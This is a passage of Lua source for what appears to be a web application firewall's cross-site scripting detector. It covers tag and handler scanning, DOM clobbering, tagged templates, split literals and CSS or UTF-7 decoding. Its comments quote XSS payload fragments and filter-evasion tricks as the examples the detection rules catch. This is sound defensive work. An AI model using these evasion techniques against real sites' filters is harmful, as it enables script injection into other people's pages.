        if not e then
            return false
        end
        i = e + 1
        local q = byte(low, i)
        local stop = "[%s>]"
        if q == 34 or q == 39 or q == 96 then
            stop = char(q)
            i = i + 1
        end
        local close = find(low, stop, i) or #low + 1
        local url = sub(low, i, close - 1)
        local colon = find(url, ":", 1, true)
        if colon and not XLINK_SAFE[match(url, "^%s*([%a][%w+.-]*):")] then
            return true
        end
    end
    return true
end

-- An SVG <use> draws what its href names: a fragment of the same
-- document ("#icon-star") or a sprite sheet of the same site
-- ("/icons.svg#x"), or another host's document, markup an attacker
-- wrote ("https://host/s.svg#x", "//host/s.svg#x", a data: URL). Read
-- within the tag, up to its ">".
local function use_fetches(rest)
    local tag = match(rest, "^[^<>]*") or ""
    local i = 1
    for _ = 1, 4 do
        local _, e = find(tag, "href%s*=%s*[\"'`]?", i)
        if not e then
            return false
        end
        i = e + 1
        if find(tag, "^%s*//", i) or find(tag, "^%s*[%a][%w+.-]*:", i) then
            return true
        end
    end
    return false
end

local function handler_runs(text)
    local low = lower(text)
    if find(low, "formaction", 1, true) or find(low, "srcdoc", 1, true) then
        return true
    end
    -- (an xlink:href to a web address, and no handler: nothing runs)
    local xlink_safe = false
    if find(low, "xlink:href", 1, true) then
        if xlink_runs(low) then
            return true
        end
        xlink_safe = true
    end
    local i, seen = 1, false
    for _ = 1, 16 do
        local b, e = find(text, "[oO][nN]%a%a%a+[%s\v]*=[%s\v]*", i)
        if not b then
            return not seen and not xlink_safe
        end
        i = e + 1
        local p = byte(text, b - 1)
        if b == 1 or HANDLER_BEFORE[p] then
            if byte(text, i) ~= 123 then                  -- not "{"
                return true
            end
            local depth, k = 0, i
            while k <= #text do
                local c = byte(text, k)
                if HTML_BLANK[c] or c == 62 then
                    break
                end
                if c == 123 then
                    depth = depth + 1
                elseif c == 125 then
                    depth = depth - 1
                end
                k = k + 1
            end
            if depth <= 0 then
                return true
            end
            seen = true
        end
    end
    return true
end


-- A title element whole, words alone inside ("Notes toward
-- <title>Essays on Goya</title>", a pasted error page's "<head><title>502
-- Bad Gateway</title>"): what it names is a page's title, and its close
-- closes its own open. A "</title>" with no such open before it is still a
-- breakout of the page's title. b: the tag's "<", e: the byte after its
-- name.
-- (what it holds is text to the HTML parser, up to "</title>": its tags
-- too, "<title><xref rid=\"T1\">Table 1</xref> <sup>b</sup></title>", a
-- JATS caption's; each is still read as a tag of its own)
local function title_whole(s, closing, b, e)
    if not closing then
        return find(s, "^%s*>", e) ~= nil and find(s, "<%s*/%s*title%s*>", e) ~= nil
    end
    -- the last "<title>" before this close, and no other close between
    local open
    local at = 1
    for _ = 1, 32 do
        local o, oe = find(s, "<%s*title%s*>", at)
        if not o or o >= b then
            break
        end
        open, at = oe, oe + 1
    end
    if not open then
        return false
    end
    local other = find(s, "<%s*/%s*title%s*>", open + 1)
    return other == nil or other >= b
end


-- DOM clobbering: the document gives an <img>'s name (and an <img>'s id
-- beside a name) as one of its own properties, ahead of its built-ins:
-- "<img name=getElementById>" makes document.getElementById an element,
-- "<img name=cookie>" makes document.cookie one, and the page's script
-- that calls or reads it acts on markup the value chose. (form, embed,
-- object and iframe, which the document names too, are xss-tag's.) And
-- an id given twice, the second time beside a name, makes window.id a
-- collection whose .name is the attacker's element ("<a id=cfg><a id=cfg
-- name=url href=...>"): a page's own markup gives an id once.
local DOC_PROPS = {}
for name in string.gmatch([[cookie domain body head forms images links scripts anchors
    embeds plugins all currentscript defaultview documentelement getelementbyid
    getelementsbytagname getelementsbyclassname getelementsbyname queryselector
    queryselectorall createelement createtextnode createrange write writeln open close
    referrer url documenturi baseuri implementation activeelement readystate
    stylesheets characterset contenttype doctype evaluate execcommand
    addeventlistener appendchild removechild insertbefore contains nodetype
    ownerdocument parentnode attributes children firstchild lastchild childnodes
    innerhtml outerhtml textcontent getattribute setattribute hasattribute
    __proto__ constructor prototype tostring valueof hasownproperty defaultcharset
    getselection hasfocus importnode adoptnode]], "[%w_]+") do
    DOC_PROPS[name] = true
end

local function attr_word(attrs, attr)
    return match(attrs, "[%s/\"']" .. attr .. "%s*=%s*[\"']?([%w_$-]+)")
end

-- Does this tag clobber (name: the element; attrs: its attributes as
-- written up to ">", lower-cased; ids: the ids seen before, or nil)?
-- Returns the hit, and the ids table (made on the first id).
local function clobbers(name, attrs, ids)
    if not find(attrs, "=", 1, true) then
        return false, ids
    end
    attrs = " " .. attrs
    local named = attr_word(attrs, "name")
    if name == "img" and named and DOC_PROPS[named] then
        return true, ids
    end
    local id = attr_word(attrs, "id")
    if not id then
        return false, ids
    end
    if name == "img" and named and DOC_PROPS[id] then
        return true, ids
    end
    if ids and ids[id] and named then
        return true, ids
    end
    ids = ids or {}
    ids[id] = true
    return false, ids
end


-- Every "<name" read as a tag: dangerous elements, then the tag's own
-- attributes (up to 400 bytes on) for handlers and script URLs.
local function scan_tags(s, v, on, report)
    local ctx = get(v, "re_ctx")
    ctx.pos = 1
    local ids           -- (the ids of the tags so far: xss-clobber)
    local svg           -- (an <svg> opened before: <use> is SVG's)
    for _ = 1, 32 do
        local m = re_match(s, RE_TAG, "jo", ctx)
        if not m then
            return false
        end
        local e = ctx.pos
        local prefix, name = m[2], m[3]
        if not name then
            name, prefix = prefix, nil
        end
        if on["xss-tag"] and name then
            local hit
            if m[1] == "?" then
                hit = PI_LOADS[prefix or name]
            elseif (name == "meta" or name == "link") and m[1] ~= "/"
                    and (not prefix or prefix == "html" or prefix == "xhtml")
                    and head_tag_inert(name, sub(s, e, e + 400)) then
                hit = false
            elseif (name == "meta" or name == "link") and m[1] == "/" and not prefix then
                hit = false     -- a void element's closing tag: HTML ignores it
            elseif FORM_CONTROLS[name] and not prefix and m[1] ~= "?"
                    and (form_control_inert(name, s, e)
                         or (name == "form" and form_without_controls(s, e))) then
                hit = false
            elseif prefix then
                hit = MARKUP_NS[prefix] or NS_DANGEROUS[name]
            elseif name == "title" and title_whole(s, m[1] == "/", e - #m[0], e) then
                hit = false
            elseif name == "use" and svg and m[1] == "" then
                hit = use_fetches(sub(s, e, e + 400))
            elseif DANGEROUS[name] then
                hit = element_acts(s, name, m[1] == "/", e)
            end
            if hit and report("xss-tag") then
                return true
            end
        end
        svg = svg or (name == "svg" and m[1] == "")
        local rest = sub(s, e, e + 400)
        local attrs = match(rest, "^[^>]*")
        if on["xss-clobber"] and name and not prefix and m[1] == "" then
            local hit
            hit, ids = clobbers(name, attrs, ids)
            if hit and report("xss-clobber") then
                return true
            end
        end
        if on["xss-handler"] and ((re_find(rest, RE_ATTR_HANDLER, "jo") and handler_runs(attrs))
                                  or re_find(rest, RE_ATTR_ACTIVE, "jo")
                                  or (find(attrs, "xlink:href", 1, true)
                                      and xlink_runs(lower(attrs)))) then
            if report("xss-handler") then
                return true
            end
        end
        if on["xss-scheme"] and re_find(rest, RE_ATTR_SCHEME, "jo") then
            if report("xss-scheme") then
                return true
            end
        end
    end
    return false
end


-- Script entry points that run a template literal given as their
-- argument (alert`1`, setTimeout`...`).
local SINKS = {}
for name in string.gmatch([[alert prompt confirm eval settimeout setinterval
    execscript function atob]], "%a+") do
    SINKS[name] = true
end


-- Tagged templates: an opening backtick (backticks pair up, as in
-- markdown code spans) right after an expression that names a function:
-- a script entry point (alert`1`), a member (x.y`...`), or any name
-- with a substitution inside (tag`...${...}`). The closing backtick of
-- "`config.yaml`" and the opening one of "Run `ls`" are neither.
-- (each name from its start: tried from every byte of a long run of
-- digits or capitals, each try scanned to the end)
local RE_TAG_BEFORE = [=[(?:((?<![\w$])[\w$]+|[\])])\s*\.\s*)?((?<![\w$])[a-z_$][\w$]*)(\s*)$]=]
-- ... and members that call or write what they are given (x.call`...`,
-- document.write`...`), navigate to it (location.assign`javascript:...`)
-- or reach the Function constructor: as plain words they are English.
local CALLS = { call = true, apply = true, bind = true, write = true, writeln = true,
                open = true, assign = true, replace = true, constructor = true,
                globaleval = true }
-- A member of another object tags a template only where that object is
-- one every page has (window.x`...`, top[...].y`...`) or an expression's
-- result ("(x).y`t`", "[].y`t`"): "styled.div`color: red`" and "gql`...`"
-- are libraries' tags in code, and a random token's "kj.q`" names
-- nothing a page holds.
local ROOTS = { document = true, location = true, [")"] = true, ["]"] = true }
for _, name in ipairs(WINDOW) do
    ROOTS[name] = true
end


--
-- JavaScript parses a whole script before it runs any of it, so a tagged
-- template the script cannot hold runs nothing: a "${...}" in it that is
-- no expression (edge.waf.expr), a tag glued to a number or a closing
-- bracket before it ("0cv6l4`", ")x`": two operands in a row), an
-- identifier or number glued to its closing backtick ("`...`x", but "in"
-- and "instanceof" join). Adjacency is read only where the compacted text
-- keeps it: no comment removed, no line break (a line break lets
-- JavaScript insert a ";"). Quotes on either side may be HTML's (an
-- attribute's delimiters) and say nothing. A random token (a bot
-- sensor's blob) holds "name`" by chance; the script around it, almost
-- never.
local GLUED_BEFORE = {}
for c in ("0123456789)]"):gmatch(".") do
    GLUED_BEFORE[byte(c)] = true
end
local JOINS = { ["in"] = true, instanceof = true }
local MAX_SUBSTITUTIONS = 8

local function template_rejected(s, p, close, m, lexical)
    local at = find(s, "${", p + 1, true)
    for _ = 1, MAX_SUBSTITUTIONS do
        if not at or at > close then
            break
        end
        if expr.call_rejects(s, at + 1, expr.JS, true) then
            return true
        end
        at = find(s, "${", at + 2, true)
    end
    if not lexical then
        return false
    end
    local obj = m[1]
    if obj and find(obj, "^%d") then
        return true                   -- "1.x`", "9a.x`": a number glued to a name
    end
    if not obj or (obj ~= ")" and obj ~= "]") then
        local start = p - #m[0]
        if start > 1 and GLUED_BEFORE[byte(s, start - 1)] then
            return true
        end
    end
    local word = match(s, "^[%w_$]+", close + 1)
    return word ~= nil and not JOINS[word]
end


local function tagged_template(s, v)
    local from, odd = 1, false
    local ctx = get(v, "re_ctx")
    local low = v.low
    local lexical = v.ctrl == 0 and not find(low, "/*", 1, true)
                    and not find(low, "\226\128[\168\169]")       -- U+2028, U+2029
    for _ = 1, 64 do
        local p = find(s, "`", from, true)
        if not p then
            return false
        end
        odd = not odd
        local close = odd and p > 1 and find(s, "`", p + 1, true)
        if close then
            ctx.pos = 1
            local before = sub(s, p > 80 and p - 80 or 1, p - 1)
            local m = re_match(before, RE_TAG_BEFORE, "jo", ctx)
            if m and not template_rejected(s, p, close, m, lexical) then
                local member, last, spaced = m[1], m[2], m[3] ~= ""
                -- "2. Open `x`" is a numbered list, not a member
                if member and find(member, "^%d") then
                    member = false
                end
                -- (lower-case "function" is the keyword, which tags
                -- nothing: "In function `main'"; the constructor is
                -- "Function", and JavaScript's names keep their case)
                -- (a sink's word, a blank, then a span of three words or
                -- more and nothing else, "confirm `show interfaces status`":
                -- a checklist's verb and the command it names)
                local prose = spaced and not member
                    and find(sub(s, p + 1, close - 1), "^%s*%a[%w._-]*%s+%a[%w._-]*%s+%a[%w._ -]*$")
                if ((SINKS[last] and (last ~= "function" or find(v.dec, "Function", 1, true)))
                        or (member and CALLS[last])) and not prose then
                    return true
                end
                -- (a run of backticks is one delimiter, reST's and
                -- markdown's literal "``sys.path``": past a sink, no call)
                if not spaced and byte(s, p + 1) ~= 96 and byte(s, p - 1) ~= 96 then
                    if member and ROOTS[member] then
                        return true
                    end
                    local sub_at = find(s, "${", p + 1, true)
                    if sub_at and sub_at < close then
                        return true
                    end
                end
            end
        end
        from = p + 1
    end
    return false
end


-- Script written in pieces: string literals joined by "+" ("'java' +
-- 'script:'", "s1=''+'ale'+'';s2=''+'rt(1)'") spell, read in order, what
-- no single literal holds. Where a value joins literals so, their
-- contents one after the other must not spell a script URL or a call of
-- a script entry point. (Tags are left out: code that builds HTML from
-- pieces, "<img src='" + src + "'>", is common and spells a tag.)
local RE_JOINED = [=[['"]\s*\+\s*['"]]=]
-- (a script URL as xss-scheme reads one: "JavaScript: The Good Parts" is
-- a title in pieces too)
local RE_FOLDED = alt({ RE_SCHEME, [=[\b(?:alert|prompt|confirm|eval)\s*\(]=] })
local MAX_LITERALS = 256

local function joined_literals(s)
    if not re_find(s, RE_JOINED, "jo") then
        return false
    end
    local parts, n = {}, 0
    local i = 1
    for _ = 1, MAX_LITERALS do
        local a = find(s, "['\"]", i)
        if not a then
            break
        end
        local q = byte(s, a)
        local b = a + 1
        while true do
            local c = byte(s, b)
            if c == nil or c == q then
                break
            end
            b = b + (c == 92 and 2 or 1)
        end
        n = n + 1
        parts[n] = sub(s, a + 1, b - 1)
        i = b + 1
    end
    return n >= 2 and re_find(concat(parts), RE_FOLDED, "jo") ~= nil
end


-- CSS escapes (\6a, \-, \0) and comments resolved: the text a style
-- sheet parser reads ("-m\0o\0z-binding", "expression\28", "expr/**/ession(").
local function css_hex(h)
    local cp = tonumber(h, 16)
    if not cp or cp == 0 or cp >= 0x110000 then
        return ""
    end
    return normalize.utf8(cp)
end


-- (comments cut by plain finds, each "/*" to the first "*/" after it, as
-- gsub("/%*.-%*/") cut them: a "/*" with no close leaves the rest as it
-- is, and so does every "/*" after it, where the lazy pattern read the
-- rest of the value again from each)
local function css_uncomment(s)
    local out, n, from = nil, 0, 1
    while true do
        local a = find(s, "/*", from, true)
        local b = a and find(s, "*/", a + 2, true)
        if not b then
            break
        end
        out = out or {}
        n = n + 1
        out[n] = sub(s, from, a - 1)
        from = b + 2
    end
    if not out then
        return s
    end
    out[n + 1] = sub(s, from)
    return concat(out)
end


_M.css_uncomment = css_uncomment


local function css_text(s)
    if find(s, "/*", 1, true) then
        s = css_uncomment(s)
    end
    if find(s, "\\", 1, true) then
        s = gsub(s, "\\(%x%x?%x?%x?%x?%x?)[ \t\n]?", css_hex)
        s = gsub(s, "\\(.)", "%1")
    end
    return lower(s)
end


-- Texts detect sets on the view (fields of every view, edge.waf.rules).
local function none()
    return false
end

rules.buffer("nocntrl", none)
rules.buffer("xss_other", none)
rules.buffer("css", none)

local TAGS = { ids = { "xss-tag", "xss-handler", "xss-scheme" }, needles = { "<" },
               scan = scan_tags }
local NOT_PATH = { path = false }

-- In order. v.low unless said; "nocntrl" is v.low without control bytes
-- (detect sets it: schemes survive tabs, newlines and NULs in the word).
local RULES = rules.compile({
    TAGS,
    { id = "xss-obfuscation", needles = { "<" }, pattern = RE_SPACED_TAG, check = spaced_tag },
    { id = "xss-ssi", needles = { "<" }, pattern = RE_SSI },
    { id = "xss-markup", needles = { "<" }, pattern = RE_MARKUP },
    { id = "xss-dangling", needles = { "<" }, pattern = RE_DANGLING, plain = false },
    { id = "xss-xml", pattern = RE_XML,
      needles = { "entity", "xmlns", "xi:", "xsi:", "doctype", "system" } },
    { id = "xss-handler", needles = { "=" }, pattern = RE_HANDLER, check = handler_runs },
    { id = "xss-handler-token", needles = { "=" }, pattern = RE_HANDLER_TOKEN },
    { id = "xss-css", field = "css", needles = CSS_NEEDLES, pattern = RE_CSS },
    { id = "xss-dom", field = "cmp", where = NOT_PATH, needles = DOM_NEEDLES,
      before = dom_gate, pattern = RE_DOM, check = dom_as_written },
    -- (a plain value holds no quote)
    { id = "xss-attr-breakout", where = NOT_PATH, needles = { "\">", "'>", "`>", "\" >", "' >" },
      pattern = RE_ATTR_BREAKOUT, plain = false },
    { id = "xss-js-breakout", where = NOT_PATH, needles = { "//", "<!--" },
      pattern = RE_JS_BREAKOUT, plain = false },
    { id = "xss-obfuscation", where = NOT_PATH, needles = { "[" },
      pattern = RE_OBFUSCATION },
    { id = "xss-obfuscation", field = "cmp", where = NOT_PATH, needles = { "`" },
      check = tagged_template },
    -- (a plain value holds no quote: the literals need two)
    { id = "xss-obfuscation", where = NOT_PATH, needles = { "+" }, check = joined_literals,
      plain = false },
    { id = "xss-scheme", field = "nocntrl", needles = { "script", "data" },
      pattern = RE_SCHEME },
    -- (an object literal whose toString or valueOf is a function by its
    -- name, "'+{valueOf:confirm}+'": the string concatenation calls it,
    -- no parenthesis written; a key a config names takes a value, not a
    -- bare function)
    { id = "xss-obfuscation", where = NOT_PATH, needles = { "tostring", "valueof" },
      pattern = [=[\{\s*(?:tostring|valueof)\s*:\s*(?:window\.|self\.|top\.)?]=]
          .. [=[(?:alert|prompt|confirm|eval|print|open|fetch|import|function\b)]=],
      plain = false },
}, _M.RULES)

-- The UTF-7 and 7-bit readings of the text (v.xss_other, set by detect):
-- only the tags.
local TAGS_ONLY = rules.compile({
    { ids = TAGS.ids, field = "xss_other", needles = { "<" }, scan = scan_tags },
}, _M.RULES)

-- Markup a sanitizer removes: a tag without attributes glued inside a
-- word ("o<x>nerror=", "<scr<b>ipt>", "java<i>script:") joins the word once
-- tags are stripped, as many filters strip them. The text without such
-- tags (v.xss_other) is read for tags, handlers and script URLs; the
-- markup of text ("H<sub>2</sub>O", "x<sup>2</sup>") joins nothing.
local RE_GLUED_TAG = [=[[a-z0-9]<[a-z][a-z0-9]{0,9}\s*/?>[a-z0-9]]=]
local EMPTY_TAG = "<%a%w*%s*/?>"
local STRIPPED = rules.compile({
    { ids = TAGS.ids, field = "xss_other", needles = { "<" }, scan = scan_tags },
    { id = "xss-handler", field = "xss_other", needles = { "=" }, pattern = RE_HANDLER,
      check = handler_runs },
    { id = "xss-scheme", field = "xss_other", needles = { "script" }, pattern = RE_SCHEME },
}, _M.RULES)


function _M.detect(v, on, report, where)
    local s = v.low
    if re_find(s, GATE, "jo") then
        -- (v.ctrl: the view's control bytes of v.low; 1: C0)
        v.nocntrl = bit.band(v.ctrl or normalize.control_bytes(s), 1) ~= 0
            and gsub(s, "%c", "") or s
        local d = v.dec
        v.css = (find(d, "\\", 1, true) or find(d, "/*", 1, true)) and css_text(d) or s
        if rules.run(RULES, v, on, report, where) then
            return true
        end
    end
    -- UTF-7 and 7-bit (US-ASCII) readings of the same text.
    if find(s, "+", 1, true) and find(s, "-", 1, true) then
        local u = normalize.utf7_decode(v.dec)
        if u ~= v.dec and find(u, "<", 1, true) then
            v.xss_other = lower(u)
            if rules.run(TAGS_ONLY, v, on, report, where) then
                return true
            end
        end
    end
    local seven = normalize.seven_bit(v.dec)
    if seven then
        v.xss_other = lower(seven)
        if rules.run(TAGS_ONLY, v, on, report, where) then
            return true
        end
    end
    if find(s, "<", 1, true) and re_find(s, RE_GLUED_TAG, "jo") then
        v.xss_other = gsub(s, EMPTY_TAG, "")
        if rules.run(STRIPPED, v, on, report, where) then
            return true
        end
    end
    return false
end


-- Plain values (edge.waf's inspect: letters, digits, spaces and , . _ :
-- + @ - only, lower-cased): no "<", "=", "(", quote, "[" or "`", so no
-- tag, handler or call; what is left runs behind these needles (XML, CSS,
-- DOM names, schemes, obfuscation), plus the UTF-7 view: "<" can only
-- come out of a "+" followed by three base64 characters.
-- the element names, for tests that generate values
_M.VOCABULARY = { DANGEROUS }

_M.PLAIN_NEEDLES = rules.plain_needles({}, RULES)


local function b64_byte(c)
    return c and ((c >= 97 and c <= 122) or (c >= 65 and c <= 90)
                  or (c >= 48 and c <= 57) or c == 43 or c == 47)
end


function _M.plain_maybe(low)
    if not find(low, "-", 1, true) then
        return false
    end
    local from = 1
    while true do
        local p = find(low, "+", from, true)
        if not p then
            return false
        end
        if b64_byte(byte(low, p + 1)) and b64_byte(byte(low, p + 2))
                and b64_byte(byte(low, p + 3)) then
            return true
        end
        from = p + 1
    end
end


_M.PATTERNS = rules.patterns({ RE_TAG, RE_TAG_BEFORE, RE_ATTR_HANDLER, RE_ATTR_ACTIVE,
                               RE_ATTR_SCHEME, GATE,
                               CONTROL, RE_JOINED, RE_FOLDED, RE_GLUED_TAG },
                             RULES)

return _M
